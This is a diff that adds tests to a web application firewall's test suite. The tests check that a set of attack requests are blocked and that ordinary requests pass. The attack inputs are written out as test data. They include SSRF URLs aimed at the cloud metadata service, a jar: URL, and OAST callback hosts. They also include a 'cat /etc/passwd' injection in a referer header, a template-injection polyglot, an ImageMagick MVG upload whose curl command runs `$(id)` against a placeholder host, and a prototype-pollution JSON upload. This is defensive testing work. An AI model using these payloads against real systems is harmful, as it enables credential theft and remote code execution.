@@ -1075,3 +1075,82 @@ describe('waf API profile: search-box query syntax (family q, session 7)', () =>
     }
   });
 });
+
+describe('waf API profile: attacks held-out 9 found missed (rules 90122–90124, session 7)', () => {
+  const get = (path: string, headers: Record<string, string> = {}): Init => ({
+    method: 'GET',
+    path: path.split('?')[0] as string,
+    query: path.includes('?') ? path.slice(path.indexOf('?') + 1) : '',
+    headers: { ...ua, ...headers },
+  });
+  const upload = (filename: string, type: string, content: string): Init => {
+    const b = '----gatehouse9';
+    const body = Buffer.from(
+      `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`,
+    );
+    return {
+      method: 'POST',
+      path: '/api/media',
+      headers: {
+        ...ua,
+        'content-type': `multipart/form-data; boundary=${b}`,
+        'content-length': String(body.length),
+      },
+      body,
+    };
+  };
+
+  test('metadata paths behind rebinding names, jar: URLs, OAST hosts, hostile referers, polyglots, exploit files', async () => {
+    for (const [init, reason] of [
+      [
+        get(
+          '/v1/firmware/check?manifest=http%253A%252F%252F7f000001.a9fea9fe.rbndr.us%252Flatest%252Fmeta-data%252F',
+        ),
+        'ssrf',
+      ],
+      [get('/v1/fetch?url=http%3A%2F%2F169.254.169.254.nip.io%2F'), 'ssrf'],
+      [post({ resume_url: 'jar:http://198.51.100.7:8000/evil.jar!/' }), 'ssrf'],
+      [
+        get('/v1/check', { referer: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
+        'ssrf',
+      ],
+      [get('/v1/check', { referer: 'http://status.example.com@169.254.169.254/latest/meta-data/' }), 'ssrf'],
+      [get('/v1/check', { referer: "{system('cat /etc/passwd')}" }), 'generic'],
+      [get('/v1/check', { cookie: 'sid=x; region=https%3A%2F%2Fx7k2.oast.fun%2Fssrf-probe' }), 'ssrf'],
+      [post({ callback: 'http://abc123.oastify.com/x' }), 'ssrf'],
+      [get('/v1/check', { cookie: "sid=x; region=%24%7B%7B%3C%25%5B%25'%22%7D%7D%25%5C." }), 'template'],
+      [
+        upload(
+          'exploit.mvg',
+          'image/png',
+          "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/a.jpg\"|curl \"http://x/$(id)')'\npop graphic-context\n",
+        ),
+        'rce',
+      ],
+      [upload('clauses.json', 'application/json', '[{"heading":"x","__proto__":{"isAdmin":true}}]'), 'rce'],
+    ] as [Init, string][]) {
+      assert.equal((await run(api, init)).error?.reason, `waf:${reason}`, JSON.stringify(init));
+    }
+  });
+
+  test('ordinary referers, origins on localhost, callbacks and JSON uploads pass', async () => {
+    for (const init of [
+      get('/v1/check', {
+        referer: 'https://app.example.com/settings?tab=dns&x=(1)',
+        origin: 'http://localhost:3000',
+      }),
+      get('/v1/check', { referer: 'android-app://com.google.android.gm/' }),
+      post({
+        callback: 'https://hooks.example.com/webhooks/stripe',
+        note: 'see https://docs.aws.amazon.com/latest/userguide',
+      }),
+      upload(
+        'clauses.json',
+        'application/json',
+        '[{"heading":"Term","text":"This Agreement starts on the Effective Date."}]',
+      ),
+    ]) {
+      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init));
+    }
+  });
+});
